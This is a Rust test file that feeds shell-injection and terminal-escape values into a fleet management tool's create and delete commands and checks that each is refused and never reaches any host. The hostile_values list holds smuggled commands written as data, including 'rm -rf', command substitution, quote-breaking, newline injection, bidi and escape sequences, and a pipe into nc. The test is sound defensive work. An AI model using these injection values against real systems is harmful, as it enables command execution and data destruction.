//! Hostile input, on the lab: values with shell metacharacters, quotes, newlines, unicode,
//! bidi overrides, escape sequences, excessive length or a leading `-`
//!
//! * typed into `create` and `delete` (domain, login, VLAN, image, node): rejected with
//!   exit 4 and a message naming the field, and none of them ever reaches a host — every
//!   sshd's command log and every dockerd's debug log are searched for them;
//! * printed by a node's tools (`node_output`): garbage costs that node's facts only, and
//!   a guest name full of shell syntax reaches the node's shell only quoted;
//! * in the config (`config_types`): wrong types and bad names are configuration errors
//!   (exit 2) naming file, line and key.
//!
//! Names created here carry `fdth`; VLAN 141 on 10.90.141.0/24.

mod support;

#[path = "hostile_input/config_types.rs"]
mod config_types;
#[path = "hostile_input/node_output.rs"]
mod node_output;

use support::audit::Watch;
use support::fleet::{TestFleet, code, text};
use support::lab::Lab;

/// Every hostile value carries this, so the lab's logs can be searched for it.
const MARK: &str = "fdthx";

/// (what it is, the value), each value unique and carrying [`MARK`].
pub fn hostile_values() -> Vec<(&'static str, String)> {
    let long_label = "a".repeat(290);
    let long_name = format!("{}.lab", vec!["b".repeat(60); 5].join("."));
    let cases: [(&'static str, String); 14] = [
        ("semicolon", "; rm -rf /tmp/{m}".into()),
        ("command substitution", "$(touch /tmp/{m}-pwned)".into()),
        ("backticks", "`touch /tmp/{m}-pwned`".into()),
        ("single quote", "{m}'; touch /tmp/{m}-pwned; '".into()),
        ("double quote", "{m}\"x\"".into()),
        ("newline", "{m}.lab\ntouch /tmp/{m}-pwned".into()),
        ("unicode", "{m}-café.example".into()),
        ("bidi override", "{m}\u{202e}bal.example".into()),
        ("escape sequence", "{m}\u{1b}]0;owned\u{7}\u{1b}[2J".into()),
        ("300 characters", format!("{{m}}{long_label}")),
        ("300 characters in labels", format!("{{m}}{long_name}")),
        ("leading dash", "-{m}.lab".into()),
        ("glob", "{m}*.lab".into()),
        ("space and pipe", "{m} | nc 10.77.0.254 9".into()),
    ];
    cases
        .into_iter()
        .enumerate()
        .map(|(i, (what, v))| (what, v.replace("{m}", &format!("{MARK}{i:02}"))))
        .collect()
}

const VLAN: &str = "141";

fn tables(fleet: &TestFleet) -> String {
    format!(
        "[inventory]\npath = {:?}\n[containers]\nimage = {:?}\n\
         [[vlan]]\nid = {VLAN}\nnode = \"h1\"\nsubnet = \"10.90.{VLAN}.0/24\"\n\
         gateway = \"10.90.{VLAN}.1\"\nbridge = \"fdth{VLAN}\"\nnetwork = \"fdth-vlan{VLAN}\"\n",
        fleet.path("inventory.db").display().to_string(),
        fleet.lab.image,
    )
}

/// `create` with one field replaced by `value`.
fn create_args(field: &str, value: &str) -> Vec<String> {
    let mut args = vec![
        "create".to_string(),
        "--login=fdthok".into(),
        format!("--vlan={VLAN}"),
        "--domain=fdth-ok.lab".into(),
        "--yes".into(),
    ];
    match field {
        "login" | "vlan" | "domain" => {
            let at = args
                .iter()
                .position(|a| a.starts_with(&format!("--{field}=")))
                .expect("field");
            args[at] = format!("--{field}={value}");
        }
        "node" | "image" => args.push(format!("--{field}={value}")),
        other => panic!("no field {other}"),
    }
    args
}

/// Raw control characters or bidi controls in text meant for a terminal.
fn terminal_unsafe(text: &str) -> Option<char> {
    text.chars().find(|c| {
        (c.is_control() && *c != '\n' && *c != '\t')
            || matches!(*c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

#[test]
fn hostile_create_and_delete_values_are_rejected_and_reach_no_host() {
    let fleet = TestFleet::new(Lab::load(), "fdth-hostile-");
    fleet.write_config("fleet.toml", "", &tables(&fleet));
    let watch = Watch::start(&fleet.lab);
    let mut refused_domains = Vec::new();

    for field in ["domain", "login", "vlan", "image", "node"] {
        for (what, value) in hostile_values() {
            let args = create_args(field, &value);
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            let out = fleet.run("fleet.toml", &args);
            let err = String::from_utf8_lossy(&out.stderr).into_owned();
            assert_eq!(code(&out), 4, "{field} = {what}: {}", text(&out));
            assert!(
                err.contains(field),
                "{field} = {what}: the message does not name the field: {err}"
            );
            assert!(
                err.lines().count() <= 2,
                "{field} = {what}: more than two lines: {err}"
            );
            if let Some(c) = terminal_unsafe(&err) {
                panic!("{field} = {what}: raw {c:?} printed to the terminal: {err:?}");
            }
            if field == "domain" {
                refused_domains.push(value.clone());
            }
        }
    }
    for (what, value) in hostile_values() {
        let out = fleet.run("fleet.toml", &["delete", "--yes", "--", &value]);
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        assert_eq!(code(&out), 4, "delete {what}: {}", text(&out));
        assert!(err.contains("domain"), "delete {what}: {err}");
        if let Some(c) = terminal_unsafe(&err) {
            panic!("delete {what}: raw {c:?} printed to the terminal: {err:?}");
        }
    }

    // The witnesses are awake: a tree in the same window shows up in every host's log.
    let out = fleet.run("fleet.toml", &["tree", "--json"]);
    assert_eq!(code(&out), 0, "tree: {}", text(&out));
    let seen = watch.seen();
    for host in &fleet.lab.hosts {
        assert!(
            seen.own_sessions().iter().any(|s| s.host == host.name),
            "tree left no trace on {}: the command log is not being written",
            host.name
        );
    }
    for s in &seen.sessions {
        let line = s.command.as_deref().unwrap_or_default();
        assert!(
            !line.contains(MARK),
            "a hostile value reached {}'s shell: {line:?}",
            s.host
        );
    }
    for line in &seen.docker_lines {
        assert!(
            !line.contains(MARK),
            "a hostile value reached a dockerd: {line}"
        );
    }
    for host in &fleet.lab.hosts {
        let out = fleet.lab.docker(
            &host.name,
            &["ps", "-a", "--filter", &format!("name={MARK}"), "-q"],
        );
        assert!(
            String::from_utf8_lossy(&out.stdout).trim().is_empty(),
            "{}: a container named after a hostile value exists",
            host.name
        );
    }
    // The hosts share this machine's filesystem: a command run anywhere would leave
    // /tmp/fdthxNN-pwned.
    assert!(
        !std::fs::read_dir("/tmp")
            .expect("/tmp")
            .filter_map(Result::ok)
            .any(|e| e.file_name().to_string_lossy().starts_with(MARK)),
        "a hostile value ran a command on this machine"
    );

    // The refusals are audited with the value exactly as typed (bound parameters), and
    // the audit listing shows them without letting them drive the terminal.
    let out = fleet.run("fleet.toml", &["audit", "--json", "--limit", "500"]);
    assert_eq!(code(&out), 0, "{}", text(&out));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).expect("audit json");
    let targets: Vec<&str> = doc["audit"]
        .as_array()
        .expect("rows")
        .iter()
        .filter_map(|r| r["target"].as_str())
        .collect();
    for value in &refused_domains {
        assert!(
            targets.contains(&value.as_str()),
            "refused create of {value:?} not audited verbatim: {targets:?}"
        );
    }
    let out = fleet.run("fleet.toml", &["audit", "--limit", "500"]);
    let listing = String::from_utf8_lossy(&out.stdout).into_owned();
    assert_eq!(code(&out), 0, "{}", text(&out));
    assert!(listing.contains(MARK), "{listing}");
    if let Some(c) = terminal_unsafe(&listing) {
        panic!("`fleetdeck audit` printed a raw {c:?}: {listing:?}");
    }
    assert_eq!(
        listing.lines().count(),
        doc["audit"].as_array().map_or(0, Vec::len),
        "one line per audit row (a newline in a value must not forge a row): {listing}"
    );
}
